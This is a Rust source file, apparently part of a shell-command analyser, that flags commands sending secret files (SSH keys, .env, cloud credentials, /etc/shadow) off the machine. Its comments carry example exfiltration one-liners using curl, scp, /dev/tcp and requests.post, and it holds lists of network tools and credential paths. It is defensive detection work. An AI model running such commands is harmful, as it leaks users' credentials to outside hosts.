//! Secrets that a command sends to the network: files whose names say that they hold keys or passwords, in the body of a
//! request or down a connection.

use crate::shell::effects::services::http::is_here;
use crate::shell::model::{Command, CommandInput, Effect, EffectKind, Script, UNKNOWN, Word};
use crate::shell::parse::output;
use crate::shell::wrappers::interpreter_code::calls::each_call;
use crate::shell::wrappers::interpreter_code::tokens::SourceToken;

/// Clients of HTTP that send what an option names.
const CLIENTS: &[&str] = &["curl", "wget", "http", "https", "xh", "xhs"];
/// Programs that send what comes in.
const PIPES: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet", "mail", "mailx", "sendmail", "mutt"];
/// Programs between a file and the network that change only how it looks.
const PACKERS: &[&str] = &[
    "cat", "base64", "base32", "gzip", "xxd", "hexdump", "od", "openssl", "tar", "head", "tail", "tr", "jq",
    "zip",
];
/// How many programs may stand between.
const FARTHEST: usize = 6;

/// What a command sends.
pub(crate) fn effect(script: &Script, command: &Command) -> Option<Effect> {
    let program = command.program();
    let words = command.words.get(1..)?;
    let by_client = CLIENTS.contains(&program);
    let sent = match program {
        _ if by_client => in_words(program, words).or_else(|| {
            let takes_input = words.iter().any(|word| takes_what_comes_in(&word.text));
            let coming_in = || coming_in(script, &command.input, FARTHEST);
            takes_input.then(coming_in).flatten().or_else(|| printed_into_its_words(script, command))
        }),
        _ if PIPES.contains(&program) => coming_in(script, &command.input, FARTHEST),
        "scp" | "rsync" | "rclone" | "aws" | "gsutil" | "gcloud" | "azcopy" | "mc" | "s3cmd" => {
            copied_away(command)
        }
        "sftp" | "lftp" | "ftp" => put_away(script, command),
        _ if command.code.is_some() => posted_by_source(command),
        "gh" if matches!(words, [gist, create, ..] if gist.text == "gist" && create.text == "create") => {
            named_in(words)
        }
        _ => down_a_socket(script, command),
    }?;
    let mut addresses = words.iter().map(|word| word.text.as_str()).filter(|text| !text.starts_with('-'));
    let is_local = match by_client {
        true => addresses.any(|text| text.contains("://") && is_here(text) || text.starts_with("localhost")),
        false => addresses.any(|text| is_here(text) && text.len() > 1),
    };
    (!is_local).then(|| {
        let detail = format!("{} of {sent}", if program.is_empty() { "a connection" } else { program });
        Effect::of(EffectKind::Releases, command, &detail, &[], command.directory.as_deref())
    })
}

/// `@-`, `-T -`: the client sends what comes in.
fn takes_what_comes_in(text: &str) -> bool {
    matches!(text, "@-" | "-" | "-T-" | "-d@-" | "--post-file=-") || text.ends_with("=@-")
}

/// A file that an option of a client names: `-d @f`, `-F x=@f`, `-T f`, `--post-file=f`, `field@f`.
fn in_words(program: &str, words: &[Word]) -> Option<String> {
    let is_upload = |option: &str| matches!(option, "-T" | "--upload-file" | "--post-file" | "--body-file");
    let named = words.iter().enumerate().filter_map(|(index, word)| {
        let text = word.text.as_str();
        let before = index.checked_sub(1).and_then(|index| words.get(index)).map_or("", |word| &word.text);
        let glued = ["--upload-file=", "--post-file=", "--body-file=", "-T"];
        let glued = glued.iter().find_map(|option| text.strip_prefix(option)).filter(|file| !file.is_empty());
        let by_sign = || text.split_once('@').map(|(_, file)| file.split(';').next().unwrap_or_default());
        let is_body = text.starts_with('@')
            || text.contains("=@")
            || text.starts_with("-d@")
            || before == "--data-urlencode"
            || !program.starts_with("curl");
        match is_upload(before) {
            true => Some(text),
            false => glued.or_else(|| by_sign().filter(|_| is_body && !text.contains("://"))),
        }
    });
    named.filter(|file| is_secret(file)).map(str::to_owned).next()
}

/// The first of the words that names a secret.
fn named_in(words: &[Word]) -> Option<String> {
    words.iter().find(|word| is_secret(&word.text)).map(|word| word.text.clone())
}

/// The secret that comes in, through programs that change only how it looks.
fn coming_in(script: &Script, input: &CommandInput, farthest: usize) -> Option<String> {
    match input {
        CommandInput::File(file) => is_secret(&file.text).then(|| file.text.clone()),
        CommandInput::From(index) if farthest > 0 => {
            let command = script.commands.get(*index).filter(|command| !command.remote)?;
            let words = command.words.get(1..)?;
            match command.program() {
                "env" | "printenv" if words.is_empty() => Some("the environment".to_owned()),
                program if PACKERS.contains(&program) => {
                    named_in(words).or_else(|| coming_in(script, &command.input, farthest - 1))
                }
                _ => None,
            }
        }
        _ => None,
    }
}

/// `cat key > /dev/tcp/host/port`.
fn down_a_socket(script: &Script, command: &Command) -> Option<String> {
    let is_socket = |text: &str| text.starts_with("/dev/tcp/") && !text.starts_with("/dev/tcp/localhost");
    command.redirects.iter().any(|redirect| is_socket(&redirect.target.text)).then_some(())?;
    named_in(command.words.get(1..)?).or_else(|| coming_in(script, &command.input, FARTHEST))
}

/// `curl "https://x/?d=$(base64 .env)"`: what a substitution among the words prints of all of a secret. Who signs a request
/// with one sends it to whom it is for.
fn printed_into_its_words(script: &Script, command: &Command) -> Option<String> {
    const WHOLE: &[&str] = &["cat", "base64", "base32", "xxd", "hexdump", "od", "gzip", "tar", "openssl"];
    const SIGNING: &[&str] = &["-H", "--header", "-u", "--user", "-b", "--cookie", "--oauth2-bearer"];
    let carries = |pair: &[Word]| matches!(pair, [before, word] if word.text.contains(UNKNOWN) && !SIGNING.contains(&before.text.as_str()));
    if !command.source.contains("$(") || !command.words.windows(2).any(carries) {
        return None;
    }
    let is_within = |other: &Command| {
        let is_part = !other.source.is_empty() && other.source.len() < command.source.len();
        is_part && command.source.contains(&other.source)
    };
    let named = |(at, other): (usize, &Command)| {
        // What takes a part of it out of what comes in sends that part.
        let is_last = !script.commands.iter().any(|next| next.input == CommandInput::From(at));
        let whole = is_last && WHOLE.contains(&other.program()) && is_within(other);
        whole
            .then(|| named_in(other.words.get(1..)?).or_else(|| coming_in(script, &other.input, FARTHEST)))
            .flatten()
    };
    script.commands.iter().enumerate().find_map(named)
}

/// `scp ~/.ssh/id_rsa host:/tmp`, `aws s3 cp .env s3://bucket`: a secret among what is copied to another machine or a store.
fn copied_away(command: &Command) -> Option<String> {
    const VALUED: &[&str] = &[
        "-i",
        "-o",
        "-F",
        "-P",
        "-J",
        "-l",
        "-c",
        "-S",
        "-e",
        "--rsh",
        "-f",
        "--exclude",
        "--include",
        "--exclude-from",
        "--profile",
        "--region",
        "--endpoint-url",
        "--config",
        "--password-file",
    ];
    let words: Vec<&Word> = command.words.iter().skip(1).collect();
    let is_value = |at: usize| {
        at.checked_sub(1)
            .and_then(|at| words.get(at))
            .is_some_and(|word| VALUED.contains(&word.text.as_str()))
    };
    let operands =
        words.iter().enumerate().filter(|(at, word)| !word.text.starts_with('-') && !is_value(*at));
    let operands: Vec<&str> = operands.map(|(_, word)| word.text.as_str()).collect();
    let at = operands.iter().rposition(|operand| is_elsewhere(operand))?;
    let (to, from) = (operands.get(at)?, operands.get(..at)?);
    let tries = words.iter().any(|word| matches!(word.text.as_str(), "--dry-run" | "--dryrun" | "-n"));
    (!is_here(to) && !tries).then_some(())?;
    from.iter().find(|path| !is_elsewhere(path) && is_secret(path)).map(|path| (*path).to_owned())
}

/// Whether an operand names a place on another machine or in a store: `host:/tmp`, `s3://bucket`.
fn is_elsewhere(operand: &str) -> bool {
    operand.split_once(':').is_some_and(|(host, _)| host.len() > 1 && !host.contains('/'))
}

/// `echo 'put .env' | sftp host`.
fn put_away(script: &Script, command: &Command) -> Option<String> {
    let given = command.words.iter().skip(1).map(|word| word.text.clone());
    let orders: Vec<String> = given.chain(output::text::text_from(script, &command.input)).collect();
    let mut orders = orders.iter().flat_map(|text| text.split(['\n', ';']));
    orders.find_map(|order| {
        let mut words = order.split_whitespace();
        let puts = matches!(words.next()?, "put" | "mput" | "reput");
        words.find(|path| puts && is_secret(path)).map(str::to_owned)
    })
}

/// `requests.post(url, data=open('.env').read())`: a secret that a request of a source opens among its arguments.
fn posted_by_source(command: &Command) -> Option<String> {
    const SENDING: &[&str] = &["post", "put", "request", "urlopen", "fetch", "Request"];
    let code = command.code.as_ref()?;
    let text = code.text.as_deref().filter(|text| text.contains("://"))?;
    let mut sent = None;
    each_call(code.language, text, |call| {
        let last = call.name.rsplit('.').next().unwrap_or_default();
        let texts = || {
            call.inside.iter().filter_map(|token| match token {
                SourceToken::Text(Some(text)) => Some(text.as_str()),
                _ => None,
            })
        };
        let goes_away = || texts().any(|text| text.contains("://") && !is_here(text));
        if sent.is_none() && SENDING.contains(&last) && goes_away() {
            sent = texts().find(|text| is_secret(text)).map(str::to_owned);
        }
    });
    sent
}

/// Whether a path's name says that it holds keys or passwords, and no example of them.
fn is_secret(path: &str) -> bool {
    const NAMES: &[&str] = &[
        ".netrc",
        ".pgpass",
        ".pypirc",
        ".npmrc",
        ".git-credentials",
        ".vault-token",
        "id_rsa",
        "id_ed25519",
        "id_ecdsa",
        "id_dsa",
        ".bash_history",
        ".zsh_history",
    ];
    const PLACES: &[&str] =
        &[".aws/credentials", ".kube/config", ".docker/config.json", "/etc/shadow", ".config/gh/hosts.yml"];
    const EXAMPLES: &[&str] = &["example", "sample", "template", "test", "dist", "defaults", "schema", "pub"];
    let path = path.trim_matches(['"', '\'']);
    let name = path.rsplit('/').next().unwrap_or_default();
    let is_example = EXAMPLES.iter().any(|example| name.ends_with(example));
    let is_environment = name == ".env" || name.starts_with(".env.");
    let of_folder =
        |folder: &str| path.contains(&format!("/{folder}/")) || path.starts_with(&format!("{folder}/"));
    let of_ssh = of_folder(".ssh") && !name.starts_with("known_hosts") && name != "config";
    !is_example
        && (is_environment
            || of_ssh
            || of_folder(".gnupg")
            || ["/.ssh", "/.ssh/", "/.gnupg", "/.gnupg/", "/.aws", "/.aws/"]
                .iter()
                .any(|it| path.ends_with(it))
            || NAMES.contains(&name)
            || PLACES.iter().any(|place| path.ends_with(place)))
}
